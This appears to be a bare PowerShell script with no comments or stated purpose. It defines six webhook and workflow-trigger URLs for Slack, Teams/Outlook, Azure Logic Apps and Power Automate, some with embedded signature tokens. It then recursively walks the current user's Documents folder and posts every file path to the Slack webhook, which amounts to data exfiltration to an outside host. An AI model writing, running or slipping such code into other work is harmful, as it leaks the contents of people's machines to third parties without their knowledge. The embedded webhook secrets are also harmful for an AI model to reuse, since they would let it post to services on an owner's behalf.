$ErrorActionPreference = 'Stop'
$hook = 'https://hooks.slack.com/services/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'
$wf = "https://hooks.slack.com/triggers/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"
$teams = 'https://contoso.webhook.office.com/webhookb2/3c1fdd87-c47a-7afa-636e-6edbd1637081@8bdc100a-a5ba-78ee-3404-e4e005ccc386/IncomingWebhook/640ea4f7db8ef2537f79388ae8c0e856/631b316b-a765-50f1-edda-e102259c1495'
$legacy = 'https://outlook.office.com/webhook/a5aaf7e9-d65d-9e91-a4a1-0932b362b5ff@a4ef67d0-762d-7f89-5ae4-a882f8ec05da/IncomingWebhook/061f93b8b97170f2d1cb7889108b074e/1a2b1698-60bd-388c-6491-5e93521667b9'
$flow = 'https://prod-27.westeurope.logic.azure.com:443/workflows/f02de53afc0de60308a656c386684b49/triggers/manual/paths/invoke?api-version=2016-06-01&sp=%2Ftriggers%2Fmanual%2Frun&sv=1.0&sig=kl9M01QzFEMIXMvyZRCIcyRTL7VZZJuBeH0SEuP9gFw'
$pa = 'https://default6633da1744b806bd28a2dbb76a4fd1.15.environment.api.powerplatform.com:443/powerautomate/automations/direct/workflows/d112ad5bb810df50a74251df71a27000/triggers/manual/paths/invoke?api-version=1&sp=%2Ftriggers%2Fmanual%2Frun&sv=1.0&sig=slRAPdh9qws2ihRDPzJ_yBF5rr26-ZmmYvILphzuc0u'
Get-ChildItem $env:USERPROFILE\Documents -Recurse | ForEach-Object {
  Invoke-RestMethod -Uri $hook -Method Post -Body (@{text = $_.FullName} | ConvertTo-Json)
}
